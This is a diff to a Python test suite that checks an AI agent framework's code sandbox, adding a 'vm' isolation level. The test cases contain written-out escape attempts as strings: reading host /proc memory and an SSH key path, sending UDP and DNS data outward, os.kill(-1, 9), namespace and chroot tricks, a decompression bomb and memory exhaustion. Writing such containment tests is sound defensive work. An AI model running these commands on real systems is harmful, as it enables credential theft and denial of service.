@@ -16,9 +16,12 @@ import anyio
 from anyio import to_thread
 
 from agentkit.errors import ToolError
-from agentkit.sandbox import LEVELS, Interpreter, Level, Outcome, WorkerLimits
+from agentkit.sandbox import LEVELS, Interpreter, Isolation, Level, Outcome, WorkerLimits
 
 CANARY = "canary-7301"
+
+COLUMNS: tuple[Isolation, ...] = (*LEVELS, "vm", "monty")
+"""What a program runs at; the last two hold all of them."""
 
 
 @dataclass
@@ -55,15 +58,19 @@ class World:
         return heard
 
 
+def open_at(level: Isolation, limits: WorkerLimits | None = None) -> Interpreter:
+    """Return a session at a level and no other."""
+    return Interpreter(limits, isolation=level, minimum="process")
+
+
 @dataclass
 class Case:
     """One session at a level, and what is around it."""
 
-    level: Level
+    level: Isolation
     world: World
     interpreter: Interpreter
-    open: Callable[[WorkerLimits], Interpreter]
-    extra: list[Interpreter] = field(default_factory=list[Interpreter])
+    own: list[Interpreter] = field(default_factory=list[Interpreter])
 
     async def run(self, code: str, seconds: float = 20) -> Outcome:
         return await self.interpreter.run(code, seconds)
@@ -73,8 +80,8 @@ class Case:
         assert outcome.value == "42", outcome
 
     def with_limits(self, limits: WorkerLimits) -> None:
-        self.interpreter = self.open(limits)
-        self.extra.append(self.interpreter)
+        self.interpreter = open_at(self.level, limits)
+        self.own.append(self.interpreter)
 
 
 Attack = Callable[[Case], Awaitable[str]]
@@ -89,8 +96,8 @@ class Program:
     holds_from: Level
     attack: Attack
 
-    def holds_at(self, level: Level) -> bool:
-        return LEVELS.index(level) >= LEVELS.index(self.holds_from)
+    def holds_at(self, level: Isolation) -> bool:
+        return COLUMNS.index(level) >= COLUMNS.index(self.holds_from)
 
 
 PROGRAMS: list[Program] = []
@@ -139,11 +146,26 @@ async def _environment(case: Case) -> str:
 
 @program(3, "read the environment and the memory of the host through /proc", "confined")
 async def _proc(case: Case) -> str:
+    if case.level == "vm":
+        return await _own_proc(case)
     pids = (str(os.getpid()), "{os.getppid()}", "self")
     files = [
         f"open(f'/proc/{pid}/{file}', 'rb').read(1)" for pid in pids for file in ("environ", "mem")
     ]
     return await denied(case, *files)
+
+
+async def _own_proc(case: Case) -> str:
+    """Read whatever /proc has: in a kernel of its own that is its own, and knows nothing."""
+    outcome = await case.run(
+        f"import os\nfound = []\nkey = 'root{case.world.home}/.ssh/id_rsa'\n"
+        "for pid in os.listdir('/proc'):\n    for file in ('environ', 'cmdline', 'mem', key):\n"
+        "        try: found.append(open(f'/proc/{pid}/{file}', 'rb').read(100_000))\n"
+        f"        except OSError: pass\nlen(found) > 2, {CANARY.encode()!r} in b''.join(found)"
+    )
+    assert outcome.value == "(True, False)", outcome
+    await denied(case, "open(f'/proc/{os.getppid()}/mem', 'rb').read(1)")
+    return "its own processes, which know nothing"
 
 
 @program(4, "connect to a service of the host over TCP", "confined")
@@ -161,11 +183,14 @@ async def _tcp(case: Case) -> str:
 @program(5, "send data out over UDP and DNS", "confined")
 async def _udp(case: Case) -> str:
     port = case.world.udp.getsockname()[1]
-    seen = await denied(
-        case,
-        f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port}))",
-        "socket.getaddrinfo('canary.example.com', 80)",
-    )
+    sends = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', {})"
+    away = (sends.format(("192.0.2.1", 53)), "socket.getaddrinfo('canary.example.com', 80)")
+    inside = sends.format(("127.0.0.1", port))
+    if case.level == "vm":  # a network of its own, with nobody there
+        assert (await case.run(f"import socket\n{inside}")).value == "1"
+        seen = f"{await denied(case, *away)}; what it sends to itself stays there"
+    else:
+        seen = await denied(case, inside, *away)
     assert case.world.heard() == []
     return seen
 
@@ -218,8 +243,15 @@ async def _ptrace(case: Case) -> str:
 
 @program(9, "kill the host, the janitor and everything else", "confined")
 async def _kill(case: Case) -> str:
+    everything = "import os\nos.kill(-1, 9)"
+    if case.level == "vm":
+        seen = await denied(case, f"os.kill({os.getpid()}, 15)")
+        await case.run(everything)
+        outcome = await case.run("import os, time\nos.kill(os.getppid(), 9)\ntime.sleep(1)")
+        assert outcome.killed_by in ("exit", ""), outcome  # another kernel does not allow it
+        return f"{seen}; its own container ends, and that is said"
     seen = await denied(case, f"os.kill({os.getpid()}, 15)", "os.kill(os.getppid(), 9)")
-    await case.run("import os\nos.kill(-1, 9)")
+    await case.run(everything)
     return seen
 
 
@@ -233,15 +265,18 @@ async def _write(case: Case) -> str:
         case.world.home / "made",
         code / "_worker.py",
         packages / "evil.pth",
-        Path("/tmp/agentkit-evil"),
         Path("/etc/agentkit-evil"),
+        Path("/tmp/agentkit-evil"),
     ]
     before = (code / "_worker.py").read_bytes()
-    seen = await denied(case, *(f"open({str(target)!r}, 'ab').write(b'x')" for target in targets))
+    attempts = [f"open({str(target)!r}, 'ab').write(b'x')" for target in targets]
+    if case.level == "vm":
+        assert (await case.run(attempts.pop())).value == "1"  # its /tmp is its own
+    seen = await denied(case, *attempts)
     assert (code / "_worker.py").read_bytes() == before
     assert not any(target.exists() for target in targets if target.name != "_worker.py")
     assert seen  # which errors depends on who owns what
-    return "denied; nothing is written"
+    return f"denied; nothing is written{', its /tmp is its own' if case.level == 'vm' else ''}"
 
 
 @program(11, "have the host follow links, pipes and devices out of the folder")
@@ -255,7 +290,8 @@ async def _links(case: Case) -> str:
         "open('good', 'w').write('good')"
     )
     outcome = await case.run(code)
-    assert [file.name for file in outcome.files] == ["good"]
+    assert outcome.value == "4", outcome
+    assert [file.name for file in outcome.files] == (["good"] if await reads(case, "good") else [])
     refused = 0
     for name in (
         "plot.png",
@@ -272,8 +308,17 @@ async def _links(case: Case) -> str:
         except ToolError:
             refused += 1
     assert refused == 8
-    assert await case.interpreter.read_file("good") == b"good"
     return "none of them is read"
+
+
+async def reads(case: Case, name: str) -> bytes:
+    """Return a file that the code has made, nothing where the level hands no files out."""
+    try:
+        return await case.interpreter.read_file(name)
+    except ToolError as error:
+        if case.level == "vm" and "has no files" in str(error):
+            return b""
+        raise
 
 
 @program(12, "use files that the host has open")
@@ -290,7 +335,7 @@ async def _inherited(case: Case) -> str:
 @program(13, "loop for ever")
 async def _loop(case: Case) -> str:
     await case.run("kept = 1")
-    outcome = await case.run("while True: pass", 0.4)
+    outcome = await case.run("while True: pass", 0.2)
     assert outcome.timed_out
     assert (await case.run("kept")).value == "1"
     return "interrupted, variables kept"
@@ -302,7 +347,7 @@ async def _deaf(case: Case) -> str:
         "import signal; signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
         "import time\nwhile True:\n    try:\n        time.sleep(60)\n    except BaseException: pass",
     ):
-        outcome = await case.run(code, 0.3)
+        outcome = await case.run(code, 0.1)
         assert (outcome.timed_out, outcome.killed_by) == (True, "time")
     return "killed, and said so"
 
@@ -310,7 +355,7 @@ async def _deaf(case: Case) -> str:
 @program(15, "compute in C for ever")
 async def _in_c(case: Case) -> str:
     for code in ("sum(range(10**11))", "10**10**9", "__import__('re').match('(a+)+$', 'a'*60+'b')"):
-        outcome = await case.run(code, 0.3)
+        outcome = await case.run(code, 0.1)
         assert outcome.timed_out, outcome
     return "interrupted, or killed and said so"
 
@@ -345,11 +390,22 @@ async def _daemon(case: Case) -> str:
     return "ended with the session"
 
 
+IN_FILES = (
+    "import os\nkept = [os.memfd_create('m') for _ in range(200)]\n"
+    "for one in kept: os.write(one, bytes(4 << 20))"
+)
+IN_PIPES = (
+    "import fcntl, os\nany(os.fork() == 0 for _ in range(5))\nfor _ in range(120):\n"
+    "    _, end = os.pipe()\n    os.set_blocking(end, False)\n"
+    "    fcntl.fcntl(end, fcntl.F_SETPIPE_SZ, 1 << 20)\n    os.write(end, bytes(1 << 20))"
+)
+
+
 @program(18, "take all memory, in one process and in eight")
 async def _memory(case: Case) -> str:
     outcome = await case.run("bytearray(8 << 30)")
     assert last_line(outcome) == "MemoryError"
-    case.with_limits(WorkerLimits(memory_bytes=300 << 20))
+    case.with_limits(WorkerLimits(memory_bytes=300 << 20, file_bytes=16 << 20))
     code = (
         "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n"
         "        hold = bytearray(100 << 20)\n        hold[::4096] = b'x' * len(hold[::4096])\n"
@@ -357,6 +413,10 @@ async def _memory(case: Case) -> str:
     )
     outcome = await case.run(code)
     assert outcome.killed_by == "memory"
+    if case.level == "vm":  # of no process: what lies in its kernel
+        for code in (IN_FILES, IN_PIPES):
+            outcome = await case.run(f"{code}\nimport time\ntime.sleep(600)")
+            assert outcome.killed_by, outcome
     return "MemoryError; together: killed, and said so"
 
 
@@ -378,6 +438,7 @@ async def _disk(case: Case) -> str:
 
 @program(20, "print without end")
 async def _flood(case: Case) -> str:
+    case.with_limits(WorkerLimits(output_bytes=8 << 20))
     for code in (
         "import os\nwhile True: os.write(1, b'x' * 65536)",
         "print('y' * (100 << 20))",
@@ -401,15 +462,16 @@ async def _letters(case: Case) -> str:
 
 @program(22, "unpack a bomb, and leave one as a picture")
 async def _bombs(case: Case) -> str:
-    case.with_limits(WorkerLimits(memory_bytes=400 << 20))
+    case.with_limits(WorkerLimits(memory_bytes=160 << 20))
     outcome = await case.run(
-        "import zlib\nc = zlib.compressobj()\nbomb = b''.join(c.compress(bytes(1 << 20)) for _ in"
-        " range(600)) + c.flush()\nopen('bomb.png', 'wb').write(bomb)\nzlib.decompress(bomb)"
+        "import zlib\nc = zlib.compressobj(9, zlib.DEFLATED, -15)\n"  # one piece, repeated
+        "piece = c.compress(bytes(1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)\n"
+        "bomb = piece * 300 + c.flush()\nopen('bomb.png', 'wb').write(bomb)\n"
+        "zlib.decompress(bomb, -15)"
     )
     assert last_line(outcome) == "MemoryError", outcome
-    read = await case.interpreter.read_file("bomb.png")
-    assert len(read) < 1 << 20
-    return "MemoryError; the host reads bytes and decodes none"
+    assert len(await reads(case, "bomb.png")) < 1 << 20
+    return "MemoryError; the host decodes nothing"
 
 
 @program(23, "end the interpreter under the cell")
@@ -427,7 +489,7 @@ async def _ends(case: Case) -> str:
 
 @program(24, "recurse without end, and answer with JSON that is very deep")
 async def _deep(case: Case) -> str:
-    outcome = await case.run("import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()", 1)
+    outcome = await case.run("import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()", 0.3)
     assert outcome.killed_by or outcome.error, outcome
     outcome = await case.run(
         "import os, struct, time\ndata = struct.pack('>I', 200_000) + b'[' * 200_000\n"
@@ -464,7 +526,7 @@ async def _forge(case: Case) -> str:
 @program(27, "give values whose repr loops, floods or raises")
 async def _reprs(case: Case) -> str:
     cell = "class R:\n    def __repr__(self):\n        {}\nR()"
-    assert (await case.run(cell.format("while True: pass"), 0.4)).timed_out
+    assert (await case.run(cell.format("while True: pass"), 0.2)).timed_out
     flood = await case.run(cell.format("return 'x' * (10 << 20)"))
     assert flood.value is not None
     assert len(flood.value) < 10_000
@@ -479,11 +541,25 @@ async def _rights(case: Case) -> str:
     x86 |= {"io_uring": 425, "userfaultfd": 323}
     arm |= {"io_uring": 425, "userfaultfd": 282}
     numbers = {"x86_64": x86, "aarch64": arm}[os.uname().machine]
+    if case.level == "vm":
+        return await _own_rights(case, numbers.pop("unshare"))
     tries = [
         f"tried({number}, {0x10000000 if name == 'unshare' else 0}, 0, 0, 0, 0)"
         for name, number in numbers.items()
     ]
     return names_of(await case.run(f"{PTRACE}\n[{', '.join(tries)}]"))
+
+
+async def _own_rights(case: Case, unshare: int) -> str:
+    """Become root of a namespace, which a kernel of its own may allow: nothing comes of it."""
+    key = case.world.home / ".ssh" / "id_rsa"
+    outcome = await case.run(
+        f"{PTRACE}\ntried({unshare}, 0x10000000 | 0x20000)\n"
+        "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)\nlibc.chroot(b'/proc/1/root')\n"
+        f"os.path.exists({str(key)!r}), os.path.exists({str(case.world.local_path)!r})"
+    )
+    assert outcome.value == "(False, False)", outcome
+    return "rights over its own kernel alone"
 
 
 @program(29, "type into the host's terminal", "confined")
@@ -549,6 +625,11 @@ BUSY = (
 
 @program(32, "take the processor from the host")
 async def _processor(case: Case) -> str:
+    return await stays_awake(case, BUSY)
+
+
+async def stays_awake(case: Case, code: str) -> str:
+    """Run a cell that takes all it can get, beside a loop that must go on."""
     ticks = 0
 
     async def tick() -> None:
@@ -560,7 +641,7 @@ async def _processor(case: Case) -> str:
     outcomes: list[Outcome] = []
     async with anyio.create_task_group() as tasks:
         tasks.start_soon(tick)
-        outcomes.append(await case.run(BUSY, 1))
+        outcomes.append(await case.run(code, 0.5))
         tasks.cancel_scope.cancel()
     assert outcomes[0].timed_out
     assert ticks > 5
